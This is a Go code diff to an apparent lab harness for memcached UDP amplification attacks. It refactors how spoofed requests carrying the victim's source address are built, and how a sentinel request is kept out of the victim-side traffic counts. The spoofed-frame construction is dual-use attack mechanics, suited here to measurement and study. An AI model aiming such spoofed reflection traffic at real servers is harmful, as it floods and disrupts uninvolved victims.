@@ -122,8 +122,7 @@ type AttackResult struct {
 	// before that.
 	Answered bool
 	Gets     uint64 // memcached cmd_get increase, the sentinel excluded
-	// Victim is what reached the victim, the sentinel's answer and the
-	// flush datagram excluded from the link and UDP counts.
+	// Victim is what reached the victim, the flush datagram excluded.
 	Victim VictimCounters
 }
 
@@ -140,11 +139,15 @@ func (r AttackResult) Amplification() float64 {
 // the victim's address and VictimPort to memcached on the reflector's
 // interface via, addressed to the router's MAC.
 func (l *Lab) SpoofedRequest(fam Addrs, via string, reqID uint16, command string) ([]byte, error) {
+	return l.request(fam, fam.Victim, via, reqID, command)
+}
+
+func (l *Lab) request(fam Addrs, src netip.Addr, via string, reqID uint16, command string) ([]byte, error) {
 	dst := fam.Refl0
 	if via == Refl1If {
 		dst = fam.Refl1
 	}
-	frame, err := UDPFrame(fam.Victim, dst, VictimPort, MemcachedPort, MemcachedPayload(reqID, command))
+	frame, err := UDPFrame(src, dst, VictimPort, MemcachedPort, MemcachedPayload(reqID, command))
 	if err != nil {
 		return nil, fmt.Errorf("build request: %w", err)
 	}
@@ -205,7 +208,9 @@ func (l *Lab) Attack(a Attack) (AttackResult, error) {
 		frames = append(frames, f)
 		res.RequestBytes += uint64(len(f))
 	}
-	sentinel, err := l.SpoofedRequest(fam, a.Via, 0xffff, "get "+sentinelKey+"\r\n")
+	// The sentinel comes from the attacker's own address, so its answer
+	// goes back there and never mixes with what reaches the victim.
+	sentinel, err := l.request(fam, fam.Attacker, a.Via, 0xffff, "get "+sentinelKey+"\r\n")
 	if err != nil {
 		return res, err
 	}
@@ -261,22 +266,11 @@ func (l *Lab) Attack(a Attack) (AttackResult, error) {
 		return res, err
 	}
 	res.Victim = vAfter.Sub(vBefore)
-	// Take out the flush datagram and, when memcached answered, the
-	// sentinel's one-datagram miss.
+	// Take out the flush datagram.
 	res.Victim.LinkPackets--
 	res.Victim.LinkBytes -= uint64(flushBytes)
 	res.Victim.UDP--
 	res.Victim.IPIn--
-	if res.Answered {
-		n := len("END\r\n") + 8 + 8 + 14 + 20
-		if a.Family == 6 {
-			n += 20
-		}
-		res.Victim.LinkPackets--
-		res.Victim.LinkBytes -= uint64(n)
-		res.Victim.UDP--
-		res.Victim.IPIn--
-	}
 	return res, nil
 }
 
